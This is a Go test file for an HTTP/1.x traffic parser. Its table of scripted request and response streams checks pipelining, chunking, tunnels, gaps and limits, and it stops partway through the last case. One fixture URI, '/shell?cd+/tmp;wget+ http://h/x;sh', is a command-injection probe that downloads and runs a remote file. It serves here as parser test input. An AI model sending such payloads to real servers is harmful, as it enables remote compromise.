package httpwire

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// ev is one event of a test script: data from a side, a gap, a close, or the end.
type ev struct {
	side  int
	data  string
	gap   int
	close bool
	end   bool
}

func req(s string) ev  { return ev{side: 0, data: s} }
func resp(s string) ev { return ev{side: 1, data: s} }

var t0 = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// play runs script through a fresh Conn and returns the emitted transactions, described.
// split cuts data events: pieces of data event splitEv are cut at splitAt (if > 0), and
// every data event is fed in chunks of chunk bytes (if > 0).
func play(cfg *Config, script []ev, splitEv, splitAt, chunk int) []string {
	return playWith(cfg, script, splitEv, splitAt, chunk, describe)
}

func playWith(cfg *Config, script []ev, splitEv, splitAt, chunk int, render func(*Transaction) string) []string {
	var out []string
	c := NewConn(cfg, func(tx *Transaction) { out = append(out, render(tx)) })
	feed := func(side int, b []byte) {
		if chunk <= 0 {
			c.Feed(side, b, t0)
			return
		}
		for len(b) > 0 {
			n := min(chunk, len(b))
			c.Feed(side, b[:n], t0)
			b = b[n:]
		}
	}
	ended := false
	for i, e := range script {
		switch {
		case e.end:
			c.End(t0)
			ended = true
		case e.close:
			c.Close(e.side, t0)
		case e.gap > 0:
			c.Gap(e.side, e.gap, t0)
		default:
			b := []byte(e.data)
			if i == splitEv && splitAt > 0 && splitAt < len(b) {
				feed(e.side, b[:splitAt])
				feed(e.side, b[splitAt:])
			} else {
				feed(e.side, b)
			}
		}
	}
	if !ended {
		c.End(t0)
	}
	return out
}

// describe renders a transaction in one line: what the tables below compare.
func describe(tx *Transaction) string {
	var b strings.Builder
	r := tx.Req
	fmt.Fprintf(&b, "c%d %s %q %s req=%d", tx.ClientSide, r.Method, r.URI, r.Version, r.BodyBytes)
	flags(&b, r.Partial, r.Truncated)
	if tx.Resp == nil {
		b.WriteString(" -> none")
		return b.String()
	}
	fmt.Fprintf(&b, " -> %d %s resp=%d", tx.Resp.Status, tx.Resp.Version, tx.Resp.BodyBytes)
	flags(&b, tx.Resp.Partial, tx.Resp.Truncated)
	return b.String()
}

func flags(b *strings.Builder, partial, truncated bool) {
	if partial {
		b.WriteString(" partial")
	}
	if truncated {
		b.WriteString(" truncated")
	}
}

// full renders every field, headers included, for whole-versus-split comparisons.
func full(tx *Transaction) string {
	s := fmt.Sprintf("%d %+v", tx.ClientSide, *tx.Req)
	if tx.Resp != nil {
		s += fmt.Sprintf(" %+v", *tx.Resp)
	}
	return s
}

func many(n int, f func(i int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(f(i))
	}
	return b.String()
}

const okBody = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"

var connTests = []struct {
	name   string
	cfg    *Config
	script []ev
	want   []string
}{
	{
		name:   "simple get",
		script: []ev{req("GET /a?b=1 HTTP/1.1\r\nHost: x\r\n\r\n"), resp(okBody)},
		want:   []string{`c0 GET "/a?b=1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "keep-alive",
		script: []ev{
			req("GET /1 HTTP/1.1\r\n\r\n"), resp(okBody),
			req("POST /2 HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc"), resp("HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n"),
		},
		want: []string{
			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 POST "/2" HTTP/1.1 req=3 -> 201 HTTP/1.1 resp=0`,
		},
	},
	{
		name:   "client is side 1",
		script: []ev{{side: 1, data: "GET / HTTP/1.1\r\n\r\n"}, {side: 0, data: okBody}},
		want:   []string{`c1 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "pipelined 40",
		script: []ev{
			req(many(40, func(i int) string { return fmt.Sprintf("GET /p%d HTTP/1.1\r\nHost: h\r\n\r\n", i) })),
			resp(many(40, func(i int) string {
				return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", i, strings.Repeat("x", i))
			})),
		},
		want: func() []string {
			var w []string
			for i := range 40 {
				w = append(w, fmt.Sprintf(`c0 GET "/p%d" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=%d`, i, i))
			}
			return w
		}(),
	},
	{
		name: "100-continue",
		script: []ev{
			req("PUT /up HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n"),
			resp("HTTP/1.1 100 Continue\r\n\r\n"),
			req("data"),
			resp("HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok"),
		},
		want: []string{`c0 PUT "/up" HTTP/1.1 req=4 -> 201 HTTP/1.1 resp=2`},
	},
	{
		name: "several interim responses",
		script: []ev{
			req("GET / HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 102 Processing\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </s.css>\r\n\r\n" + okBody),
		},
		want: []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "head with content-length",
		script: []ev{
			req("HEAD /h HTTP/1.1\r\n\r\n"), resp("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"),
			req("GET /g HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{
			`c0 HEAD "/h" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`,
			`c0 GET "/g" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "304 and 204 without body",
		script: []ev{
			req("GET /a HTTP/1.1\r\nIf-None-Match: \"x\"\r\n\r\nGET /b HTTP/1.1\r\n\r\nGET /c HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 304 Not Modified\r\nContent-Length: 50\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n" + okBody),
		},
		want: []string{
			`c0 GET "/a" HTTP/1.1 req=0 -> 304 HTTP/1.1 resp=0`,
			`c0 GET "/b" HTTP/1.1 req=0 -> 204 HTTP/1.1 resp=0`,
			`c0 GET "/c" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "chunked with extensions and trailers",
		script: []ev{
			req("POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3;ext=1\r\nabc\r\n0\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" +
				"A; name=\"v\"\r\n0123456789\r\n05\r\nhello\r\n0\r\nX-Checksum: 1\r\nX-Other: 2\r\n\r\n"),
			req("GET /next HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{
			`c0 POST "/c" HTTP/1.1 req=3 -> 200 HTTP/1.1 resp=15`,
			`c0 GET "/next" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "close-delimited ended by fin",
		script: []ev{
			req("GET /old HTTP/1.0\r\n\r\n"),
			resp("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nsome body that runs"),
			{side: 1, close: true},
			req("GET /late HTTP/1.0\r\n\r\n"),
		},
		want: []string{
			`c0 GET "/old" HTTP/1.0 req=0 -> 200 HTTP/1.0 resp=19`,
			`c0 GET "/late" HTTP/1.0 req=0 -> none`,
		},
	},
	{
		name: "close-delimited ended by end",
		script: []ev{
			req("GET /old HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nbody"),
		},
		want: []string{`c0 GET "/old" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=4`},
	},
	{
		name: "connect tunnel",
		script: []ev{
			req("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
			resp("HTTP/1.1 200 Connection established\r\n\r\n\x16\x03\x01\x02\x00"),
			req("\x16\x03\x01\x02\x00GET /not-http HTTP/1.1\r\n\r\n"),
		},
		want: []string{`c0 CONNECT "example.com:443" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`},
	},
	{
		name: "connect tunnel carrying plain http",
		script: []ev{
			req("CONNECT abc:80 HTTP/1.1\r\nUser-Agent: t\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\n\r\n\n"),
			req("\nGET / HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 404 Not Found\r\nContent-Length: 3\r\n\r\nnop"),
		},
		want: []string{
			`c0 CONNECT "abc:80" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`,
			`c0 GET "/" HTTP/1.1 req=0 -> 404 HTTP/1.1 resp=3`,
		},
	},
	{
		name: "connect tunnel whose server speaks first",
		script: []ev{
			req("CONNECT mail:25 HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\n\r\n"),
			resp("220 mail ESMTP\r\n"),
			req("GET / HTTP/1.1\r\n\r\n"),
		},
		want: []string{`c0 CONNECT "mail:25" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`},
	},
	{
		name: "connect tunnel whose first bytes were lost",
		script: []ev{
			req("CONNECT abc:80 HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\n\r\n"),
			{side: 0, gap: 5},
			req("GET / HTTP/1.1\r\n\r\n"),
		},
		want: []string{`c0 CONNECT "abc:80" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`},
	},
	{
		name: "request line cut by a gap",
		script: []ev{
			req("GET /images/sf.net_box.gif HTT"), {side: 0, gap: 466},
			resp(okBody),
		},
		want: []string{`c0 GET "/images/sf.net_box.gif"  req=0 partial -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "request line cut before its line end",
		script: []ev{
			req("POST /a?b=c HTTP/1.0\r"), {side: 0, gap: 30},
			req("GET /next HTTP/1.1\r\n\r\n"),
		},
		want: []string{
			`c0 POST "/a?b=c" HTTP/1.0 req=0 partial -> none`,
			`c0 GET "/next" HTTP/1.1 req=0 -> none`,
		},
	},
	{
		// A short snap length cuts every segment: each request line begins where bytes
		// resumed after the previous gap.
		name: "every request line cut by the snap length",
		script: []ev{
			req("GET /a HT"), {side: 0, gap: 20}, req("POST /b?x=1 HT"), {side: 0, gap: 40},
			resp("HTTP/1.1 200 OK\r\nCont"), {side: 1, gap: 30},
			resp("HTTP/1.1 404 Not Found\r\nC"), {side: 1, gap: 30},
		},
		want: []string{
			`c0 GET "/a"  req=0 partial -> 200 HTTP/1.1 resp=0 partial`,
			`c0 POST "/b?x=1"  req=0 partial -> 404 HTTP/1.1 resp=0 partial`,
		},
	},
	{
		// Skipped bytes after the gap: a cut line there may be body text.
		name: "cut line after skipped bytes",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\n"), {side: 0, gap: 20}, req("xyz\r\nGET /b HT"), {side: 0, gap: 40},
		},
		want: []string{`c0 GET "/a" HTTP/1.1 req=0 -> none`},
	},
	{
		name:   "request target cut by a gap",
		script: []ev{req("GET /images/sf.ne"), {side: 0, gap: 466}},
		want:   []string{`c0 GET "/images/sf.ne"  req=0 partial -> none`},
	},
	{
		name:   "cut line that is no request",
		script: []ev{req("HELO mail.example"), {side: 0, gap: 100}, req("GET / HTTP/1.1\r\n\r\n")},
		want:   []string{`c0 GET "/" HTTP/1.1 req=0 partial -> none`},
	},
	{
		name: "connect refused keeps parsing",
		script: []ev{
			req("CONNECT example.com:443 HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n"),
			req("GET /x HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{
			`c0 CONNECT "example.com:443" HTTP/1.1 req=0 -> 407 HTTP/1.1 resp=0`,
			`c0 GET "/x" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "upgrade websocket",
		script: []ev{
			req("GET /ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
			resp("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello"),
			req("\x81\x85abcdGET / HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\n\r\n"),
		},
		want: []string{`c0 GET "/ws" HTTP/1.1 req=0 -> 101 HTTP/1.1 resp=0`},
	},
	{
		name: "starting with a response",
		script: []ev{
			{side: 0, data: "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc"},
			{side: 1, data: "GET /icons/a.png HTTP/1.1\r\n\r\n"},
			{side: 0, data: "HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno"},
		},
		want: []string{`c1 GET "/icons/a.png" HTTP/1.1 req=0 -> 404 HTTP/1.1 resp=2`},
	},
	{
		name: "starting mid-body",
		script: []ev{
			req("ody of an earlier upload\x00\x01 no newline GET /next HTTP/1.1\r\nHost: h\r\n\r\n"),
			resp("tail of a json body\"}\r\nmore\nHTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"),
		},
		want: []string{`c0 GET "/next" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "roles decided from a quoted request are swapped",
		script: []ev{
			{side: 1, data: "docs:\nGET /quoted HTTP/1.1\nHost: x\n\nmore text\n"}, // server, mid-body
			{side: 0, data: "GET /real HTTP/1.1\r\nHost: h\r\n\r\n"},
			{side: 1, data: okBody},
		},
		want: []string{`c0 GET "/real" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "a quoted request on one side alone changes nothing",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\n"),
			resp("tail of an earlier body\nGET /quoted HTTP/1.1\n" + okBody),
		},
		want: []string{`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "garbage between messages",
		script: []ev{
			req("GET /1 HTTP/1.1\r\n\r\n\x00\x01garbage\r\nnot a request\r\nGET /2 HTTP/1.1\r\n\r\n"),
			resp(okBody + "junk\r\n" + okBody),
		},
		want: []string{
			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "uri with spaces and tabs kept as sent",
		script: []ev{
			req("GET /uri afterspace HTTP/1.1\r\n\r\nGET /shell?cd+/tmp;wget+\t\thttp://h/x;sh HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
		},
		want: []string{
			`c0 GET "/uri afterspace" HTTP/1.1 req=0 -> 400 HTTP/1.1 resp=0`,
			`c0 GET "/shell?cd+/tmp;wget+\t\thttp://h/x;sh" HTTP/1.1 req=0 -> none`,
		},
	},
	{
		name:   "bare lf line ends and lower-case names",
		script: []ev{req("POST /l HTTP/1.1\ncontent-LENGTH: 2\n\nokGET /m HTTP/1.1\n\n"), resp("HTTP/1.1 200 OK\ncontent-length: 1\n\nxHTTP/1.1 200 OK\nCONTENT-LENGTH: 1\n\ny")},
		want: []string{
			`c0 POST "/l" HTTP/1.1 req=2 -> 200 HTTP/1.1 resp=1`,
			`c0 GET "/m" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=1`,
		},
	},
	{
		name: "token method and obs-fold framing",
		script: []ev{
			req("BREW /pot HTTP/1.1\r\nTransfer-Encoding:\r\n chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
			resp("HTTP/1.1 418 I'm a teapot\r\nContent-Length: 1\r\n\r\nt"),
		},
		want: []string{`c0 BREW "/pot" HTTP/1.1 req=1 -> 418 HTTP/1.1 resp=1`},
	},
	{
		name: "identical content-lengths accepted, conflicting use the last",
		script: []ev{
			req("POST /a HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 3, 3\r\n\r\nabc"),
			req("POST /b HTTP/1.1\r\nContent-Length: 40\r\nContent-Length: 2\r\n\r\nxy"),
			resp("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 501 Not Implemented\r\nContent-Length: 0\r\n\r\n"),
		},
		want: []string{
			`c0 POST "/a" HTTP/1.1 req=3 -> 200 HTTP/1.1 resp=0`,
			`c0 POST "/b" HTTP/1.1 req=2 -> 501 HTTP/1.1 resp=0`,
		},
	},
	{
		name: "transfer-encoding wins over content-length",
		script: []ev{
			req("POST /te HTTP/1.1\r\nContent-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n"),
			resp(okBody),
		},
		want: []string{`c0 POST "/te" HTTP/1.1 req=2 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "chunk size overflow resyncs",
		script: []ev{
			req("POST /o HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\nxxxx\r\n0\r\n\r\nGET /after HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n" + okBody),
		},
		want: []string{
			`c0 POST "/o" HTTP/1.1 req=0 -> 400 HTTP/1.1 resp=0`,
			`c0 GET "/after" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "broken versions still answered",
		script: []ev{
			req("GET / HTTP/1.\r\nHost: h\r\n\r\n"), resp(okBody),
			req("GET /HTTP/1.1\r\nHost: h\r\n\r\n"), resp("HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n"),
			req("OPTIONS\r\nHost: h\r\n\r\n"), resp("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
			req("GET /images/a.gif HTT\r\n\r\n"), resp(okBody),
			req("PUT / HTTP/1.\r\n\r\n"), resp("HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n"),
		},
		want: []string{
			`c0 GET "/" HTTP/1. req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/HTTP/1.1"  req=0 -> 403 HTTP/1.1 resp=0`,
			`c0 OPTIONS ""  req=0 -> 400 HTTP/1.1 resp=0`,
			`c0 GET "/images/a.gif" HTT req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 PUT "/" HTTP/1. req=0 -> 405 HTTP/1.1 resp=0`,
		},
	},
	{
		name: "unknown method with a broken or glued version",
		script: []ev{
			req("CCM_POST / HTTP/1.\nHost: h\n\n"), resp("HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n"),
			req("CCM_POST /HTTP/1.1\nHost: h\n\n"), resp("HTTP/1.0 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
			req("BREW /pot HTTP/1.\r\n\r\n"), resp("HTTP/1.1 418 I'm a teapot\r\nContent-Length: 0\r\n\r\n"),
		},
		want: []string{
			`c0 CCM_POST "/" HTTP/1. req=0 -> 405 HTTP/1.1 resp=0`,
			`c0 CCM_POST "/HTTP/1.1"  req=0 -> 400 HTTP/1.0 resp=0`,
			`c0 BREW "/pot" HTTP/1. req=0 -> 418 HTTP/1.1 resp=0`,
		},
	},
	{
		// Text protocols on an HTTP port: commands are tokens too, but none starts its
		// argument with '/' and ends in an HTTP version, so no call is made of them.
		name: "text protocols are not requests",
		script: []ev{
			resp("220 mail.example.com ESMTP\r\n"),
			req("EHLO client.example.com\r\nMAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.com>\r\nDATA\r\n"),
			resp("250 OK\r\n"),
			req("NICK guest\r\nUSER guest 0 * :Guest\r\nJOIN #chan HTTP/1.\r\nPRIVMSG #chan :/HTTP/1.1\r\n"),
			req("USER anonymous\r\nCWD /pub\r\nRETR /pub/file.txt\r\nQUIT\r\n"),
		},
		want: nil,
	},
	{
		name: "no lenient lines while resynchronising",
		script: []ev{
			req("\x00garbage\r\nGET /x\r\nget /lower HTTP/1.1\r\nGET /ok HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{`c0 GET "/ok" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "unmatched response on a known server side",
		script: []ev{
			req("GET /1 HTTP/1.1\r\n\r\n"),
			resp(okBody + "HTTP/1.1 500 Oops\r\nContent-Length: 1\r\n\r\nx"),
			req("GET /2 HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{
			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "request transfer-encoding not chunked",
		script: []ev{
			req("POST /z HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n\x1f\x8b\x08binary\r\nGET /n HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n" + okBody),
		},
		want: []string{
			`c0 POST "/z" HTTP/1.1 req=0 -> 400 HTTP/1.1 resp=0`,
			`c0 GET "/n" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "response with bad content-length runs to close",
		script: []ev{
			req("GET / HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\nabcdef"), {side: 1, close: true},
		},
		want: []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=6`},
	},
	{
		name: "gap before the role is known",
		script: []ev{
			{side: 0, gap: 100},
			req("e\r\nHost: h\r\n\r\nGET /x HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{`c0 GET "/x" HTTP/1.1 req=0 partial -> 200 HTTP/1.1 resp=5`},
	},
	{
		name: "http/2 preface ends parsing",
		script: []ev{
			req("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04"),
			resp("\x00\x00\x06\x04\x00\x00\x00\x00\x00"),
		},
		want: nil,
	},
	{
		name: "other protocols are not requests",
		script: []ev{
			req("OPTIONS sip:probe@edge.test SIP/2.0\r\nVia: x\r\n\r\nEHLO client.example.com\r\nNICK testnick\r\n"),
			resp("SIP/2.0 200 OK\r\n\r\n"),
		},
		want: nil,
	},
	{
		name:   "header over limit",
		cfg:    &Config{MaxHeaderBytes: 100},
		script: []ev{req("GET /big HTTP/1.1\r\nA: 1\r\nX-Big: " + strings.Repeat("b", 200) + "\r\nContent-Length: 2\r\n\r\nzzGET /small HTTP/1.1\r\n\r\n"), resp(okBody + okBody)},
		want: []string{
			`c0 GET "/big" HTTP/1.1 req=2 truncated -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/small" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "too many headers",
		script: []ev{
			req("POST /many HTTP/1.1\r\n" + many(150, func(i int) string { return fmt.Sprintf("X-H%d: v\r\n", i) }) + "Content-Length: 4\r\n\r\nbody" + "GET /next HTTP/1.1\r\n\r\n"),
			resp(okBody + okBody),
		},
		want: []string{
			`c0 POST "/many" HTTP/1.1 req=4 truncated -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/next" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name:   "request line over limit",
		cfg:    &Config{MaxStartLine: 64},
		script: []ev{req("GET /" + strings.Repeat("a", 100) + " HTTP/1.1\r\nHost: h\r\n\r\nGET /ok HTTP/1.1\r\n\r\n"), resp(okBody + okBody)},
		want: []string{
			`c0 GET "/` + strings.Repeat("a", 59) + `"  req=0 truncated -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/ok" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "status line over limit",
		cfg:  &Config{MaxStartLine: 32},
		script: []ev{
			req("GET / HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 503 " + strings.Repeat("busy ", 20) + "\r\nContent-Length: 3\r\n\r\nabc" + okBody),
		},
		want: []string{
			`c0 GET "/" HTTP/1.1 req=0 -> 503 HTTP/1.1 resp=3 truncated`,
			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "long garbage lines are skipped",
		cfg:  &Config{MaxStartLine: 32},
		script: []ev{
			req("GET /1 HTTP/1.1\r\n\r\n" + strings.Repeat("\x01binary", 30) + "\nGET /2 HTTP/1.1\r\n\r\n"),
			resp(okBody + strings.Repeat("z", 100) + "\n" + okBody),
		},
		want: []string{
			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name:   "chunk line over limit keeps the size",
		cfg:    &Config{MaxChunkLine: 16},
		script: []ev{req("GET / HTTP/1.1\r\n\r\n"), resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;" + strings.Repeat("e", 40) + "\r\nabc\r\n0\r\n\r\n")},
		want:   []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=3 truncated`},
	},
	{
		name:   "pending limit emits the oldest",
		cfg:    &Config{MaxPending: 2},
		script: []ev{req("GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n"), resp(okBody)},
		want: []string{
			`c0 GET "/1" HTTP/1.1 req=0 -> none`,
			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/3" HTTP/1.1 req=0 -> none`,
		},
	},
	{
		name: "pending limit with a response under way",
		cfg:  &Config{MaxPending: 2},
		script: []ev{
			req("GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc"),
			req("GET /3 HTTP/1.1\r\n\r\n"),
			resp("defghij" + okBody + okBody),
		},
		want: []string{
			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=3 partial`,
			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/3" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "pending header bytes limit",
		cfg:  &Config{MaxPendingBytes: 200},
		script: []ev{
			req(many(3, func(i int) string {
				return fmt.Sprintf("GET /%d HTTP/1.1\r\nCookie: %s\r\n\r\n", i, strings.Repeat("c", 80))
			})),
			resp(okBody),
		},
		want: []string{
			`c0 GET "/0" HTTP/1.1 req=0 -> none`,
			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/2" HTTP/1.1 req=0 -> none`,
		},
	},
	{
		name:   "request without response",
		script: []ev{req("GET /lonely HTTP/1.1\r\n\r\nPOST /half HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc")},
		want: []string{
			`c0 GET "/lonely" HTTP/1.1 req=0 -> none`,
			`c0 POST "/half" HTTP/1.1 req=3 partial -> none`,
		},
	},
	{
		name:   "response body cut by end",
		script: []ev{req("GET / HTTP/1.1\r\n\r\n"), resp("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc")},
		want:   []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=3 partial`},
	},
	{
		name:   "headers cut by end",
		script: []ev{req("GET /h HTTP/1.1\r\nHost: x\r\n")},
		want:   []string{`c0 GET "/h" HTTP/1.1 req=0 partial -> none`},
	},
	{
		name: "gap in response body",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789"),
			{side: 1, gap: 80},
			resp("0123456789" + okBody),
		},
		want: []string{
			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=100 partial`,
			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "gap in chunked body",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n01234"),
			{side: 1, gap: 10},
			resp("56789\r\n0\r\n\r\n"),
		},
		want: []string{`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=20 partial`},
	},
	{
		name: "gap past the end of a body resyncs",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\nGET /c HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n01234"),
			{side: 1, gap: 30},
			resp("ength: 5\r\n\r\nhello" + okBody),
		},
		// The 25 lost bytes past a's body were the head of b's response.
		want: []string{
			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=10 partial`,
			`c0 GET "/b" HTTP/1.1 req=0 partial -> none`,
			`c0 GET "/c" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "gap in request headers",
		script: []ev{
			req("GET /a HTTP/1.1\r\nHost: x\r\nUser-Ag"),
			{side: 0, gap: 20},
			req("ent-tail\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
			resp(okBody + okBody),
		},
		want: []string{
			`c0 GET "/a" HTTP/1.1 req=0 partial -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "gap in response headers",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 200 OK\r\nContent-Le"),
			{side: 1, gap: 30},
			resp("xxxxx" + okBody),
		},
		want: []string{
